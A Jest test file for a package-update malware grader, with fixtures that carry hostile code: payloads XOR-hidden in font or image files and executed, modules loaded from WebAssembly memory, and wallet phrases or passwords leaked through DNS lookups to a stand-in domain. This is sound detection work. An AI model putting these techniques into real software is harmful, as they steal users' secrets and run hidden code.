import { describe, expect, it } from '@jest/globals';
import { gradesOf } from '../helpers/an-update.ts';

const before = { 'index.js': 'exports.a = 1' };
const grade = async (after: string, more: Readonly<Record<string, string>> = {}) =>
  (await gradesOf(before, { 'index.js': after, ...more })).import.grade;
const needs = `const fs = require('fs'), os = require('os'), path = require('path'), dns = require('dns');\n`;

describe('programs that are carried in files of another kind', () => {
  const unpack = (file: string, run: string) => `${needs}
const raw = fs.readFileSync(path.resolve(__dirname, '${file}')).subarray(4);
const body = Uint8Array.from(raw, (v, i) => v ^ (i % 251));
const name = path.join(os.tmpdir(), '.x-' + Math.random());
fs.writeFileSync(name, body); fs.chmodSync(name, 0o755);
${run}`;

  it.each(['fonts/a.woff2', '../fonts/a.woff2', './a.png'])('convict where one of %s is started', async (file) => {
    expect(
      await grade(unpack(file, `require('child_process').execFile(name, ['-d'], () => {});`), { [file.replace(/^\.+\//, '')]: 'wOF2xxxx' }),
    ).toBe('convicts');
  });

  it('do not where something else is started', async () => {
    expect(await grade(unpack('a.png', `require('child_process').execFile('xdg-open', [name]);`))).not.toBe('convicts');
  });
});

describe('modules out of addresses', () => {
  const wasm = (rest: string) => `import fs from 'node:fs';
const { instance } = await WebAssembly.instantiate(fs.readFileSync(new URL('./a.wasm', import.meta.url)));
const held = new Uint8Array(instance.exports.m.buffer, 0, 90);
${rest}`;
  const esm = async (after: string) =>
    (await gradesOf({ 'index.mjs': 'export const a = 1' }, { 'index.mjs': after, 'a.wasm': '\0asm\x01\0\0\0' }, { main: 'index.mjs' })).import.grade;

  it('convict where WebAssembly holds them', async () => {
    expect(await esm(wasm(`await import('data:text/javascript,' + encodeURIComponent(new TextDecoder().decode(held)));`))).toBe('convicts');
  });

  it('do not where tools make them of what they are handed', async () => {
    expect(await esm(`export const load = (code) => import('data:text/javascript,' + encodeURIComponent(code));`)).toBe('none');
  });
});

describe('names that are looked up', () => {
  it.each([
    ['a phrase', 'exports.seed = (mnemonic) => dns.resolve4(Buffer.from(mnemonic).toString("hex") + ".a.invalid", () => {});'],
    [
      'a password in pieces',
      'exports.login = (user, password) => password.match(/.{1,60}/g).forEach((p, i) => dns.resolve4(i + "." + p + ".a.invalid", () => {}));',
    ],
    [
      'what a function of phrases is given',
      'function mnemonicToSeed(m) { dns.resolve4(Buffer.from(m).toString("hex") + ".a.invalid", () => {}); }\nexports.seed = mnemonicToSeed;',
    ],
  ])('convict with %s in them', async (_, after) => {
    expect(await grade(needs + after)).toBe('convicts');
  });

  it.each([
    ['a host', 'exports.spf = (host) => dns.resolveTxt("_dmarc." + host, () => {});'],
    ['an address', 'exports.listed = (ip) => dns.resolve4(ip.split(".").reverse().join(".") + ".zen.a.invalid", () => {});'],
  ])('do not with %s', async (_, after) => {
    expect(await grade(needs + after)).not.toBe('convicts');
  });
});
